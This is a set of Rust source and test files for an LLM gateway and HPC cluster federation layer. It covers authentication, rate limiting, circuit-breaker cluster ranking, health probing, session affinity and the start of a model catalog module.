                    .with_header("authorization", "Bearer sk-test-123"),
            )
            .unwrap();
        assert_eq!(resp.status, 200);
        assert_eq!(resp.json().unwrap().str_field("consumer"), Some("researcher-42"));
        // SSO header (injected by the auth proxy) → accepted
        let resp = client
            .send(&Request::new("GET", "/v1/models").with_header("x-user-email", "a@uni.de"))
            .unwrap();
        assert_eq!(resp.json().unwrap().str_field("consumer"), Some("a@uni.de"));
    }

    #[test]
    fn models_provider_serves_catalog_at_the_gateway() {
        let up = upstream_server();
        let (gw, server) =
            gateway_with(vec![Route::new("api", "/").with_upstream(&up.addr().to_string())]);
        gw.add_api_key("sk-cat", "researcher-42");
        gw.set_models_provider(|| {
            Json::obj().set("object", "list").set(
                "data",
                Json::Arr(vec![Json::obj().set("id", "llama3-70b").set("object", "model")]),
            )
        });
        let mut client = Client::new(&server.url());
        // Same auth bar as the model routes: anonymous → 401, counted.
        assert_eq!(client.get("/v1/models").unwrap().status, 401);
        assert_eq!(gw.unauthorized.load(Ordering::Relaxed), 1);
        let resp = client
            .send(&Request::new("GET", "/v1/models").with_header("x-api-key", "sk-cat"))
            .unwrap();
        assert_eq!(resp.status, 200);
        let v = resp.json().unwrap();
        assert_eq!(v.str_field("object"), Some("list"));
        let data = v.get("data").and_then(Json::as_arr).unwrap();
        assert_eq!(data[0].str_field("id"), Some("llama3-70b"));
        // Other paths — and POSTs to /v1/models — still hit the proxy.
        let v = client
            .send(&Request::new("GET", "/v1/chat").with_header("x-api-key", "sk-cat"))
            .unwrap()
            .json()
            .unwrap();
        assert_eq!(v.str_field("path"), Some("/v1/chat"));
    }

    #[test]
    fn admin_drain_requires_auth_and_reaches_handler() {
        let up = upstream_server();
        let (gw, server) =
            gateway_with(vec![Route::new("api", "/").with_upstream(&up.addr().to_string())]);
        gw.add_api_key("sk-ops", "operator");
        let drained = Arc::new(Mutex::new(Vec::<(String, bool)>::new()));
        let sink = drained.clone();
        gw.set_admin_drain(move |body| {
            let Some(node) = body.str_field("node") else {
                return Response::error(400, "missing node");
            };
            if node == "ghost" {
                return Response::error(404, "unknown node");
            }
            let drain = body.bool_field("drain").unwrap_or(true);
            sink.lock().unwrap().push((node.to_string(), drain));
            Response::json(200, &Json::obj().set("node", node).set("draining", drain))
        });
        let mut client = Client::new(&server.url());
        let body = Json::obj().set("node", "ggpu01").set("drain", true).to_string();

        // Anonymous → 401, counted, handler untouched.
        let resp = client
            .send(&Request::new("POST", "/admin/drain").with_body(body.clone().into_bytes()))
            .unwrap();
        assert_eq!(resp.status, 401);
        assert_eq!(gw.unauthorized.load(Ordering::Relaxed), 1);
        assert!(drained.lock().unwrap().is_empty());

        // Authenticated → handler runs.
        let resp = client
            .send(
                &Request::new("POST", "/admin/drain")
                    .with_header("x-api-key", "sk-ops")
                    .with_body(body.into_bytes()),
            )
            .unwrap();
        assert_eq!(resp.status, 200);
        assert_eq!(resp.json().unwrap().bool_field("draining"), Some(true));
        assert_eq!(
            drained.lock().unwrap().as_slice(),
            &[("ggpu01".to_string(), true)]
        );

        // Malformed body → 400; unknown node → handler's 404.
        let resp = client
            .send(
                &Request::new("POST", "/admin/drain")
                    .with_header("x-api-key", "sk-ops")
                    .with_body(b"not json".to_vec()),
            )
            .unwrap();
        assert_eq!(resp.status, 400);
        let resp = client
            .send(
                &Request::new("POST", "/admin/drain")
                    .with_header("x-api-key", "sk-ops")
                    .with_body(
                        Json::obj().set("node", "ghost").to_string().into_bytes(),
                    ),
            )
            .unwrap();
        assert_eq!(resp.status, 404);
    }

    #[test]
    fn rate_limit_returns_429() {
        let up = upstream_server();
        let (gw, server) = gateway_with(vec![Route::new("gpt4", "/gpt4")
            .with_rate_limit(1.0, 2)
            .with_upstream(&up.addr().to_string())]);
        gw.add_api_key("k", "user");
        let mut client = Client::new(&server.url());
        let mut codes = Vec::new();
        for _ in 0..5 {
            let resp = client
                .send(&Request::new("GET", "/gpt4/x").with_header("x-api-key", "k"))
                .unwrap();
            codes.push(resp.status);
        }
        assert_eq!(codes.iter().filter(|&&c| c == 200).count(), 2);
        assert_eq!(codes.iter().filter(|&&c| c == 429).count(), 3);
        assert_eq!(
            gw.route("gpt4").unwrap().rate_limited.load(Ordering::Relaxed),
            3
        );
    }

    #[test]
    fn priority_class_threads_downgrades_but_never_upgrades() {
        let up = upstream_server();
        let (gw, server) =
            gateway_with(vec![Route::new("api", "/").with_upstream(&up.addr().to_string())]);
        gw.add_api_key("ki", "chat-ui");
        gw.add_api_key("kb", "eval-pipeline");
        gw.set_consumer_priority("eval-pipeline", Priority::Batch);
        let mut client = Client::new(&server.url());

        // Default ceiling: interactive.
        let v = client
            .send(&Request::new("GET", "/v1/models").with_header("x-api-key", "ki"))
            .unwrap()
            .json()
            .unwrap();
        assert_eq!(v.str_field("priority"), Some("interactive"));

        // Any consumer may opt down to batch.
        let v = client
            .send(
                &Request::new("GET", "/v1/models")
                    .with_header("x-api-key", "ki")
                    .with_header("x-chat-ai-priority", "batch"),
            )
            .unwrap()
            .json()
            .unwrap();
        assert_eq!(v.str_field("priority"), Some("batch"));

        // A batch-pinned consumer cannot claim interactive via the header.
        let v = client
            .send(
                &Request::new("GET", "/v1/models")
                    .with_header("x-api-key", "kb")
                    .with_header("x-chat-ai-priority", "interactive"),
            )
            .unwrap()
            .json()
            .unwrap();
        assert_eq!(v.str_field("priority"), Some("batch"));
    }

    #[test]
    fn rate_limit_429_carries_retry_after() {
        let up = upstream_server();
        let (gw, server) = gateway_with(vec![Route::new("r", "/")
            .with_rate_limit(1.0, 1)
            .with_upstream(&up.addr().to_string())]);
        gw.add_api_key("k", "user");
        let mut client = Client::new(&server.url());
        let mut saw_429 = false;
        for _ in 0..3 {
            let resp = client
                .send(&Request::new("GET", "/x").with_header("x-api-key", "k"))
                .unwrap();
            if resp.status == 429 {
                saw_429 = true;
                assert_eq!(
                    resp.headers.get("retry-after").map(String::as_str),
                    Some("1"),
                    "429 must carry Retry-After"
                );
            }
        }
        assert!(saw_429);
    }

    #[test]
    fn upstream_update_and_balancing() {
        let up1 = upstream_server();
        let up2 = upstream_server();
        let (gw, server) =
            gateway_with(vec![Route::new("svc", "/").public().with_upstream(&up1.addr().to_string())]);
        gw.set_upstreams(
            "svc",
            vec![up1.addr().to_string(), up2.addr().to_string()],
        );
        let mut client = Client::new(&server.url());
        for _ in 0..10 {
            assert_eq!(client.get("/x").unwrap().status, 200);
        }
        // removing all upstreams → 503
        gw.set_upstreams("svc", vec![]);
        assert_eq!(client.get("/x").unwrap().status, 503);
    }

    #[test]
    fn metrics_endpoint_exposes_counters() {
        let up = upstream_server();
        let (_gw, server) =
            gateway_with(vec![Route::new("svc", "/svc").public().with_upstream(&up.addr().to_string())]);
        let mut client = Client::new(&server.url());
        client.get("/svc/a").unwrap();
        let body = client.get("/metrics").unwrap().body_str().to_string();
        assert!(body.contains("gateway_route_hits_total{route=\"svc\"} 1"), "{body}");
        assert!(body.contains("gateway_route_upstreams{route=\"svc\"} 1"), "{body}");
    }

    #[test]
    fn unknown_path_404s_when_no_catchall() {
        let (_gw, server) = gateway_with(vec![Route::new("a", "/a").public()]);
        let mut client = Client::new(&server.url());
        assert_eq!(client.get("/zzz").unwrap().status, 404);
    }

    #[test]
    fn stream_detection_uses_json_not_substrings() {
        let up = upstream_server();
        let (_gw, server) = gateway_with(vec![
            Route::new("all", "/").public().with_upstream(&up.addr().to_string())
        ]);
        let mut client = Client::new(&server.url());
        // `stream` only inside message content: proxied as a normal
        // buffered response (the seed's substring match got this wrong).
        let tricky = br#"{"messages":[{"content":"say \"stream\":true"}]}"#.to_vec();
        let resp = client
            .send(&Request::new("POST", "/v1/chat").with_body(tricky))
            .unwrap();
        assert_eq!(resp.status, 200);
        assert_ne!(
            resp.headers.get("content-type").map(String::as_str),
            Some("text/event-stream")
        );
        // Whitespace-formatted JSON still detected.
        let spaced = br#"{ "stream" : true }"#.to_vec();
        let mut streamed_ct = None;
        client
            .send_streaming_until(
                &Request::new("POST", "/v1/chat").with_body(spaced),
                |_s, h| streamed_ct = h.get("content-type").cloned(),
                |_c| true,
            )
            .unwrap();
        assert_eq!(streamed_ct.as_deref(), Some("text/event-stream"));
    }

    #[test]
    fn upstream_failure_surfaces_as_terminal_sse_error_event() {
        // A dead upstream: bind then drop, so connects fail.
        let dead = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
        let dead_addr = dead.local_addr().unwrap().to_string();
        drop(dead);
        let (gw, server) =
            gateway_with(vec![Route::new("all", "/").public().with_upstream(&dead_addr)]);
        let mut client = Client::new(&server.url());
        let mut sse = crate::util::http::SseParser::new();
        let mut events = Vec::new();
        let resp = client
            .send_streaming(
                &Request::new("POST", "/v1/chat").with_body(br#"{"stream":true}"#.to_vec()),
                |chunk| events.extend(sse.push(chunk)),
            )
            .unwrap();
        assert_eq!(resp.status, 200, "head already committed");
        assert_eq!(sse.event_names, vec!["error".to_string()]);
        assert_eq!(events.len(), 1, "{events:?}");
        let v = crate::util::json::parse(&events[0]).unwrap();
        let msg = v.get("error").unwrap().str_field("message").unwrap();
        assert!(msg.contains("upstream error"), "{msg}");
        assert_eq!(gw.route("all").unwrap().errors.load(Ordering::Relaxed), 1);
        assert_eq!(
            gw.stream_stats
                .upstream_errors
                .load(Ordering::Relaxed),
            1
        );
    }
}
