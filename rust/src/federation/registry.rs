//! The cluster registry: one entry per federated HPC cluster, carrying the
//! cluster's SSH channel, its HTTP endpoint (the per-cluster HPC proxy)
//! and the live health/capacity state the prober maintains.

use std::collections::HashMap;
use std::sync::atomic::{AtomicU64, Ordering};
use std::sync::{Arc, Mutex, RwLock};
use std::time::Instant;

use crate::config::FederationConfig;
use crate::hpc_proxy::HpcProxy;

/// Last-probed state of one service on one cluster.
#[derive(Debug, Clone, Default)]
pub struct ServiceHealth {
    pub instances: u64,
    pub ready: u64,
    pub in_flight: u64,
    /// Fraction of this service's requests on this cluster that hit the
    /// prefix cache (from the engines' `/stats/cache`, summed per service
    /// by the cloud interface's probe payload).
    pub expected_hit_rate: f64,
    /// Cumulative prefill tokens the prefix cache saved on this cluster.
    pub prefill_tokens_saved: u64,
    /// Instances currently draining under a preemption notice / walltime
    /// warning / admin drain: still finishing in-flight work, but not
    /// admitting — capacity that is about to disappear.
    pub draining: u64,
}

/// Snapshot of a cluster's state (for status endpoints and tests).
#[derive(Debug, Clone)]
pub struct ClusterStatus {
    pub healthy: bool,
    pub draining: bool,
    pub breaker_open: bool,
    pub consecutive_failures: u32,
    pub probes_ok: u64,
    pub probes_failed: u64,
    pub last_error: Option<String>,
    pub services: HashMap<String, ServiceHealth>,
}

/// One-lock snapshot of the fields the router scores on.
pub(crate) struct RouteView {
    pub(crate) healthy: bool,
    pub(crate) draining: bool,
    pub(crate) breaker_open: bool,
    pub(crate) has_ready: bool,
    pub(crate) load: f64,
    pub(crate) expected_hit_rate: f64,
}

struct State {
    /// Last probe over the SSH channel succeeded.
    healthy: bool,
    /// Operator-initiated drain: only used when no other cluster can serve.
    draining: bool,
    /// Consecutive probe/request failures (trips the breaker).
    failures: u32,
    /// While set and in the future, the cluster is out of rotation.
    breaker_until: Option<Instant>,
    probes_ok: u64,
    probes_failed: u64,
    last_error: Option<String>,
    services: HashMap<String, ServiceHealth>,
}

/// One federated cluster.
pub struct Cluster {
    pub name: String,
    /// The cluster's dedicated SSH channel (None in unit tests that drive
    /// state directly).
    pub proxy: Option<Arc<HpcProxy>>,
    /// HTTP endpoint of the cluster's HPC proxy (`host:port`).
    pub endpoint: String,
    cfg: FederationConfig,
    state: Mutex<State>,
    pub requests: AtomicU64,
    pub request_failures: AtomicU64,
}

impl Cluster {
    /// Successful probe: replace the capacity view, close the breaker.
    pub fn record_probe_ok(&self, services: HashMap<String, ServiceHealth>) {
        let mut s = self.state.lock().unwrap();
        s.healthy = true;
        s.failures = 0;
        s.breaker_until = None;
        s.probes_ok += 1;
        s.last_error = None;
        s.services = services;
    }

    /// Failed probe: the capacity view is stale; count toward the breaker.
    pub fn record_probe_err(&self, error: &str) {
        let mut s = self.state.lock().unwrap();
        s.healthy = false;
        s.probes_failed += 1;
        s.last_error = Some(error.to_string());
        Self::bump_failures(&mut s, &self.cfg);
    }

    /// A forwarded request failed at the transport/upstream level.
    pub fn record_request_failure(&self) {
        self.request_failures.fetch_add(1, Ordering::Relaxed);
        let mut s = self.state.lock().unwrap();
        Self::bump_failures(&mut s, &self.cfg);
    }

    /// A forwarded request succeeded; the cluster is demonstrably fine.
    pub fn record_request_success(&self) {
        let mut s = self.state.lock().unwrap();
        s.failures = 0;
        s.breaker_until = None;
    }

    fn bump_failures(s: &mut State, cfg: &FederationConfig) {
        s.failures = s.failures.saturating_add(1);
        if s.failures >= cfg.breaker_failures {
            s.breaker_until = Some(Instant::now() + cfg.breaker_cooldown);
        }
    }

    /// Breaker check on an already-held state lock. An elapsed cooldown
    /// half-opens the breaker: the cluster re-enters rotation, but a single
    /// further failure re-opens it.
    fn breaker_open_locked(s: &mut State, cfg: &FederationConfig) -> bool {
        match s.breaker_until {
            Some(until) if Instant::now() < until => true,
            Some(_) => {
                s.breaker_until = None;
                s.failures = cfg.breaker_failures.saturating_sub(1);
                false
            }
            None => false,
        }
    }

    /// Is the circuit breaker currently open?
    pub fn breaker_open(&self) -> bool {
        let mut s = self.state.lock().unwrap();
        Self::breaker_open_locked(&mut s, &self.cfg)
    }

    /// Everything the router's scoring needs, in one lock acquisition —
    /// this sits on the per-request hot path.
    pub(crate) fn route_view(&self, service: &str) -> RouteView {
        let mut s = self.state.lock().unwrap();
        let breaker_open = Self::breaker_open_locked(&mut s, &self.cfg);
        let (ready, in_flight, expected_hit_rate, inst_draining) = s
            .services
            .get(service)
            .map(|h| (h.ready, h.in_flight, h.expected_hit_rate, h.draining))
            .unwrap_or((0, 0, 0.0, 0));
        // Draining instances finish what they have but admit nothing new:
        // they are not routable capacity, so the scoring view discounts
        // them the same way the routing table's picker does locally.
        let effective_ready = ready.saturating_sub(inst_draining);
        RouteView {
            healthy: s.healthy,
            draining: s.draining || (ready > 0 && effective_ready == 0),
            breaker_open,
            has_ready: effective_ready > 0,
            load: in_flight as f64 / effective_ready.max(1) as f64,
            expected_hit_rate,
        }
    }

    pub fn set_draining(&self, draining: bool) {
        self.state.lock().unwrap().draining = draining;
    }

    pub fn status(&self) -> ClusterStatus {
        let mut s = self.state.lock().unwrap();
        let breaker_open = Self::breaker_open_locked(&mut s, &self.cfg);
        ClusterStatus {
            healthy: s.healthy,
            draining: s.draining,
            breaker_open,
            consecutive_failures: s.failures,
            probes_ok: s.probes_ok,
            probes_failed: s.probes_failed,
            last_error: s.last_error.clone(),
            services: s.services.clone(),
        }
    }
}

/// The set of federated clusters.
pub struct ClusterRegistry {
    cfg: FederationConfig,
    clusters: RwLock<Vec<Arc<Cluster>>>,
}

impl ClusterRegistry {
    pub fn new(cfg: FederationConfig) -> Arc<ClusterRegistry> {
        Arc::new(ClusterRegistry {
            cfg,
            clusters: RwLock::new(Vec::new()),
        })
    }

    pub fn config(&self) -> &FederationConfig {
        &self.cfg
    }

    /// Register a cluster. Until its first successful probe it is treated
    /// as unhealthy (tier-last), so traffic prefers probed clusters.
    pub fn register(
        &self,
        name: &str,
        proxy: Option<Arc<HpcProxy>>,
        endpoint: &str,
    ) -> Arc<Cluster> {
        let cluster = Arc::new(Cluster {
            name: name.to_string(),
            proxy,
            endpoint: endpoint.to_string(),
            cfg: self.cfg.clone(),
            state: Mutex::new(State {
                healthy: false,
                draining: false,
                failures: 0,
                breaker_until: None,
                probes_ok: 0,
                probes_failed: 0,
                last_error: None,
                services: HashMap::new(),
            }),
            requests: AtomicU64::new(0),
            request_failures: AtomicU64::new(0),
        });
        self.clusters.write().unwrap().push(cluster.clone());
        cluster
    }

    pub fn get(&self, name: &str) -> Option<Arc<Cluster>> {
        self.clusters
            .read()
            .unwrap()
            .iter()
            .find(|c| c.name == name)
            .cloned()
    }

    pub fn snapshot(&self) -> Vec<Arc<Cluster>> {
        self.clusters.read().unwrap().clone()
    }

    pub fn set_draining(&self, name: &str, draining: bool) -> bool {
        match self.get(name) {
            Some(c) => {
                c.set_draining(draining);
                true
            }
            None => false,
        }
    }

    /// Clusters to try for `service`, best first:
    ///
    /// 1. healthy, not draining, with a ready instance — by load;
    /// 2. healthy, draining, with a ready instance (drain = last resort
    ///    before spinning up capacity elsewhere);
    /// 3. healthy without known capacity (instances may still be loading);
    /// 4. unhealthy but breaker closed (the probe may simply be stale).
    ///
    /// Breaker-open clusters are excluded entirely.
    pub fn candidates(&self, service: &str) -> Vec<Arc<Cluster>> {
        let clusters = self.clusters.read().unwrap();
        let mut scored: Vec<(u8, f64, usize, Arc<Cluster>)> = Vec::new();
        for (idx, c) in clusters.iter().enumerate() {
            let view = c.route_view(service);
            if view.breaker_open {
                continue;
            }
            let tier = match (view.healthy, view.draining, view.has_ready) {
                (true, false, true) => 0,
                (true, true, true) => 1,
                (true, false, false) => 2,
                (true, true, false) => 3,
                (false, _, _) => 4,
            };
            scored.push((tier, view.load, idx, c.clone()));
        }
        scored.sort_by(|a, b| {
            a.0.cmp(&b.0)
                .then(a.1.partial_cmp(&b.1).unwrap_or(std::cmp::Ordering::Equal))
                .then(a.2.cmp(&b.2))
        });
        scored.into_iter().map(|(_, _, _, c)| c).collect()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::time::Duration;

    fn health(ready: u64, in_flight: u64) -> ServiceHealth {
        ServiceHealth {
            instances: ready,
            ready,
            in_flight,
            ..Default::default()
        }
    }

    fn registry() -> Arc<ClusterRegistry> {
        ClusterRegistry::new(FederationConfig {
            probe_interval: Duration::from_millis(50),
            breaker_failures: 2,
            breaker_cooldown: Duration::from_millis(80),
            ..Default::default()
        })
    }

    #[test]
    fn candidates_prefer_available_then_least_loaded() {
        let reg = registry();
        let a = reg.register("a", None, "127.0.0.1:1");
        let b = reg.register("b", None, "127.0.0.1:2");
        let c = reg.register("c", None, "127.0.0.1:3");
        // a: loaded, b: idle, c: no ready instance for svc.
        a.record_probe_ok(HashMap::from([("svc".into(), health(2, 8))]));
        b.record_probe_ok(HashMap::from([("svc".into(), health(2, 1))]));
        c.record_probe_ok(HashMap::new());
        let order: Vec<String> = reg
            .candidates("svc")
            .iter()
            .map(|c| c.name.clone())
            .collect();
        assert_eq!(order, vec!["b", "a", "c"], "least-loaded first, no-capacity last");
    }

    #[test]
    fn draining_cluster_is_deprioritized_not_dropped() {
        let reg = registry();
        let a = reg.register("a", None, "e");
        let b = reg.register("b", None, "e");
        a.record_probe_ok(HashMap::from([("svc".into(), health(1, 0))]));
        b.record_probe_ok(HashMap::from([("svc".into(), health(1, 0))]));
        assert!(reg.set_draining("a", true));
        let order: Vec<String> = reg
            .candidates("svc")
            .iter()
            .map(|c| c.name.clone())
            .collect();
        assert_eq!(order, vec!["b", "a"]);
        assert!(!reg.set_draining("ghost", true));
    }

    #[test]
    fn instance_draining_discounts_routable_capacity() {
        let reg = registry();
        let a = reg.register("a", None, "e");
        let b = reg.register("b", None, "e");
        // a: both instances draining under preemption notices — no
        // routable capacity even though they are still "ready".
        a.record_probe_ok(HashMap::from([(
            "svc".into(),
            ServiceHealth {
                instances: 2,
                ready: 2,
                in_flight: 1,
                draining: 2,
                ..Default::default()
            },
        )]));
        b.record_probe_ok(HashMap::from([("svc".into(), health(1, 5))]));
        let order: Vec<String> = reg
            .candidates("svc")
            .iter()
            .map(|c| c.name.clone())
            .collect();
        assert_eq!(order, vec!["b", "a"], "fully-draining cluster ranks last");

        // Partial drain halves a's effective capacity: its load per
        // surviving instance beats b's and ordering flips accordingly.
        a.record_probe_ok(HashMap::from([(
            "svc".into(),
            ServiceHealth {
                instances: 2,
                ready: 2,
                in_flight: 4,
                draining: 1,
                ..Default::default()
            },
        )]));
        b.record_probe_ok(HashMap::from([("svc".into(), health(2, 5))]));
        let order: Vec<String> = reg
            .candidates("svc")
            .iter()
            .map(|c| c.name.clone())
            .collect();
        assert_eq!(order, vec!["b", "a"], "load scored on surviving instances");
    }

    #[test]
    fn breaker_trips_cools_down_and_half_opens() {
        let reg = registry();
        let a = reg.register("a", None, "e");
        a.record_probe_ok(HashMap::from([("svc".into(), health(1, 0))]));
        assert!(!a.breaker_open());
        a.record_request_failure();
        assert!(!a.breaker_open(), "one failure below threshold");
        a.record_request_failure();
        assert!(a.breaker_open(), "threshold reached");
        assert!(reg.candidates("svc").is_empty(), "breaker-open excluded");
        std::thread::sleep(Duration::from_millis(120));
        assert!(!a.breaker_open(), "cooldown elapsed → half-open");
        assert_eq!(reg.candidates("svc").len(), 1);
        // Half-open: a single failure re-opens immediately.
        a.record_request_failure();
        assert!(a.breaker_open());
        // And a success fully closes it.
        std::thread::sleep(Duration::from_millis(120));
        a.record_request_success();
        assert!(!a.breaker_open());
        assert_eq!(a.status().consecutive_failures, 0);
    }

    #[test]
    fn unprobed_cluster_ranks_last_but_remains_reachable() {
        let reg = registry();
        let _fresh = reg.register("fresh", None, "e");
        let probed = reg.register("probed", None, "e");
        probed.record_probe_ok(HashMap::from([("svc".into(), health(1, 0))]));
        let order: Vec<String> = reg
            .candidates("svc")
            .iter()
            .map(|c| c.name.clone())
            .collect();
        assert_eq!(order, vec!["probed", "fresh"]);
    }

    #[test]
    fn probe_failures_mark_unhealthy_and_trip_breaker() {
        let reg = registry();
        let a = reg.register("a", None, "e");
        a.record_probe_ok(HashMap::from([("svc".into(), health(1, 0))]));
        assert!(a.status().healthy);
        a.record_probe_err("ssh down");
        let st = a.status();
        assert!(!st.healthy);
        assert_eq!(st.last_error.as_deref(), Some("ssh down"));
        a.record_probe_err("ssh down");
        assert!(a.breaker_open(), "two probe failures trip the breaker");
    }
}
