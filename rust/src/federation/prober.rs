//! The health/capacity prober: periodically scrapes every cluster's
//! routing-table and demand stats through its existing SSH exec channel
//! (`saia probe`), feeding the registry the router scores from.
//!
//! A downed cluster costs the prober almost nothing: the HPC proxy's
//! reconnect backoff makes `probe()` fail fast while the endpoint stays
//! dead, and the failure streak trips the cluster's circuit breaker.

use std::collections::HashMap;
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::Arc;
use std::time::Duration;

use super::registry::{Cluster, ClusterRegistry, ServiceHealth};
use crate::util::json::Json;

/// Parse the `saia probe` response (`{"services":{name:{instances,ready,
/// in_flight,...}}}`) into per-service health entries.
pub fn parse_probe(json: &Json) -> HashMap<String, ServiceHealth> {
    let mut out = HashMap::new();
    if let Some(Json::Obj(entries)) = json.get("services") {
        for (name, v) in entries {
            out.insert(
                name.clone(),
                ServiceHealth {
                    instances: v.u64_field("instances").unwrap_or(0),
                    ready: v.u64_field("ready").unwrap_or(0),
                    in_flight: v.u64_field("in_flight").unwrap_or(0),
                    expected_hit_rate: v.f64_field("expected_hit_rate").unwrap_or(0.0),
                    prefill_tokens_saved: v.u64_field("prefill_tokens_saved").unwrap_or(0),
                    draining: v.u64_field("draining").unwrap_or(0),
                },
            );
        }
    }
    out
}

fn probe_cluster(cluster: &Cluster) {
    let Some(proxy) = cluster.proxy.as_ref() else {
        return; // test cluster without an SSH channel
    };
    match proxy.probe() {
        Ok(json) => cluster.record_probe_ok(parse_probe(&json)),
        Err(e) => cluster.record_probe_err(&e.to_string()),
    }
}

/// Probe every registered cluster once (synchronous; used by the prober
/// loop, tests and bring-up code that wants a first snapshot immediately).
pub fn probe_all(registry: &ClusterRegistry) {
    for cluster in registry.snapshot() {
        probe_cluster(&cluster);
    }
}

/// Background prober driving [`probe_all`] on an interval.
pub struct HealthProber {
    shutdown: Arc<AtomicBool>,
    handle: Option<std::thread::JoinHandle<()>>,
}

impl HealthProber {
    pub fn start(registry: Arc<ClusterRegistry>, interval: Duration) -> HealthProber {
        let shutdown = Arc::new(AtomicBool::new(false));
        let stop = shutdown.clone();
        let handle = std::thread::Builder::new()
            .name("federation-prober".into())
            .spawn(move || {
                while !stop.load(Ordering::SeqCst) {
                    probe_all(&registry);
                    std::thread::sleep(interval);
                }
            })
            .expect("spawn federation prober");
        HealthProber {
            shutdown,
            handle: Some(handle),
        }
    }

    pub fn stop(&mut self) {
        self.shutdown.store(true, Ordering::SeqCst);
        if let Some(h) = self.handle.take() {
            let _ = h.join();
        }
    }
}

impl Drop for HealthProber {
    fn drop(&mut self) {
        self.shutdown.store(true, Ordering::SeqCst);
        // Don't join in drop: the prober may be mid-probe against a slow
        // endpoint; the thread exits on its next loop check.
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn parses_probe_payload() {
        let json = crate::util::json::parse(
            r#"{"status":200,"services":{"llama":{"instances":2,"ready":1,"in_flight":5,"draining":1,"expected_hit_rate":0.75,"prefill_tokens_saved":1280},"tiny":{"instances":1,"ready":1}}}"#,
        )
        .unwrap();
        let map = parse_probe(&json);
        assert_eq!(map.len(), 2);
        assert_eq!(map["llama"].ready, 1);
        assert_eq!(map["llama"].in_flight, 5);
        assert_eq!(map["llama"].draining, 1);
        assert_eq!(map["tiny"].draining, 0, "missing draining defaults to 0");
        assert_eq!(map["llama"].expected_hit_rate, 0.75);
        assert_eq!(map["llama"].prefill_tokens_saved, 1280);
        assert_eq!(map["tiny"].in_flight, 0, "missing field defaults to 0");
        assert_eq!(
            map["tiny"].expected_hit_rate, 0.0,
            "pre-catalog probe payloads parse fine"
        );
    }

    #[test]
    fn parses_empty_and_malformed_payloads() {
        let json = crate::util::json::parse(r#"{"status":200,"services":{}}"#).unwrap();
        assert!(parse_probe(&json).is_empty());
        let json = crate::util::json::parse(r#"{"status":200}"#).unwrap();
        assert!(parse_probe(&json).is_empty());
    }
}
