//! Session → cluster affinity tracking for the federation router.
//!
//! The router hashes each request's opening prompt block with the same
//! chained FNV scheme the [`BlockManager`](crate::llm::kv_cache) uses for
//! KV block identity (`prefix_route_hash`). Because a multi-turn chat
//! prompt is a strict prefix-extension of the previous turn, every turn
//! of a conversation produces the same route hash — so remembering which
//! cluster served a hash is remembering where that conversation's KV
//! blocks are warm.
//!
//! The map is a bounded, coarse LRU: entries carry a monotonically
//! increasing sequence stamp, and when the map overflows we drop the
//! older half in one sweep. That keeps the hot path to a single
//! mutex-guarded HashMap probe with no per-access list surgery.

use std::collections::HashMap;
use std::sync::atomic::{AtomicU64, Ordering};
use std::sync::Mutex;

/// Bounded prefix-hash → cluster map (see module docs).
pub struct AffinityMap {
    entries: Mutex<HashMap<u64, Entry>>,
    seq: AtomicU64,
    capacity: usize,
}

struct Entry {
    cluster: String,
    seq: u64,
}

impl AffinityMap {
    pub fn new(capacity: usize) -> AffinityMap {
        AffinityMap {
            entries: Mutex::new(HashMap::new()),
            seq: AtomicU64::new(0),
            capacity: capacity.max(2),
        }
    }

    /// The cluster that last served this prefix hash, if remembered.
    /// Refreshes the entry's LRU stamp.
    pub fn lookup(&self, hash: u64) -> Option<String> {
        let mut entries = self.entries.lock().unwrap();
        let entry = entries.get_mut(&hash)?;
        entry.seq = self.seq.fetch_add(1, Ordering::Relaxed);
        Some(entry.cluster.clone())
    }

    /// Record that `cluster` served a request with this prefix hash.
    pub fn record(&self, hash: u64, cluster: &str) {
        let mut entries = self.entries.lock().unwrap();
        let seq = self.seq.fetch_add(1, Ordering::Relaxed);
        if let Some(entry) = entries.get_mut(&hash) {
            entry.seq = seq;
            if entry.cluster != cluster {
                entry.cluster = cluster.to_string();
            }
            return;
        }
        if entries.len() >= self.capacity {
            // Coarse LRU: drop the older half by sequence stamp.
            let mut seqs: Vec<u64> = entries.values().map(|e| e.seq).collect();
            seqs.sort_unstable();
            let cutoff = seqs[seqs.len() / 2];
            entries.retain(|_, e| e.seq > cutoff);
        }
        entries.insert(hash, Entry { cluster: cluster.to_string(), seq });
    }

    /// Forget every session pinned to `cluster` (e.g. when its breaker
    /// opens, the warm KV state is as good as gone by the time it heals).
    pub fn forget_cluster(&self, cluster: &str) {
        self.entries.lock().unwrap().retain(|_, e| e.cluster != cluster);
    }

    pub fn len(&self) -> usize {
        self.entries.lock().unwrap().len()
    }

    pub fn is_empty(&self) -> bool {
        self.len() == 0
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn records_and_refreshes() {
        let map = AffinityMap::new(8);
        assert!(map.lookup(1).is_none());
        map.record(1, "emmy");
        assert_eq!(map.lookup(1).as_deref(), Some("emmy"));
        map.record(1, "grete"); // re-route moves the pin
        assert_eq!(map.lookup(1).as_deref(), Some("grete"));
        assert_eq!(map.len(), 1);
    }

    #[test]
    fn evicts_older_half_on_overflow() {
        let map = AffinityMap::new(8);
        for hash in 0..8 {
            map.record(hash, "emmy");
        }
        // Keep hash 0 hot so it survives the sweep.
        assert!(map.lookup(0).is_some());
        map.record(100, "grete");
        assert!(map.len() <= 5, "older half dropped, got {}", map.len());
        assert_eq!(map.lookup(0).as_deref(), Some("emmy"), "hot entry kept");
        assert_eq!(map.lookup(100).as_deref(), Some("grete"));
    }

    #[test]
    fn forget_cluster_unpins_its_sessions() {
        let map = AffinityMap::new(8);
        map.record(1, "emmy");
        map.record(2, "grete");
        map.forget_cluster("emmy");
        assert!(map.lookup(1).is_none());
        assert_eq!(map.lookup(2).as_deref(), Some("grete"));
    }
}
