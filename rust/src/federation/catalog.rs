//! The model catalog: every model the deployment serves, with backend,
//! context window, attribution and per-cluster placement.
//!
//! The paper exposes one flat model namespace; PR 1 federated it but kept
//! the flat shape, so the router could spill a request onto any cluster —
//! including one that never hosts the model. The catalog makes placement
//! explicit: `[model.*]` config sections (or derived entries for legacy
//! `[service.*]` sections) resolve to a [`ModelEntry`] whose placement is
//! the intersection of the catalog's `clusters` pin and each cluster's
//! `services` list. The router consults [`ModelCatalog::hosts`] before
//! spilling over, and the gateway aggregates [`ModelCatalog::models_json`]
//! into the federated `GET /v1/models` endpoint.

